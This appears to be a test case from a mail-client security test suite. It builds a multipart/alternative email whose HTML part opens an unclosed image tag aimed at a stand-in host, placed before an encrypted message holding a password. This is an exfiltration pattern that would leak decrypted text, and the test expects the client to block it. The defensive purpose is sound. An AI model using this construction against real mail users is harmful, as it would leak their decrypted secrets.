"""The same in multipart/alternative: the program is to decrypt the branch that it prefers."""

from case import attack
from generators import cast, mail as m

expect = attack(signature="none", encryption="partial", findings=["receive.encrypted-part-closed"],
                hides=["Rosenkohl"], unchanged=True)


def mail():
    secret = m.encrypted(cast.rita, m.text("Das Kennwort ist Rosenkohl."))
    return m.header() + m.multipart("alternative", m.html('<img src="//e/?'), secret)
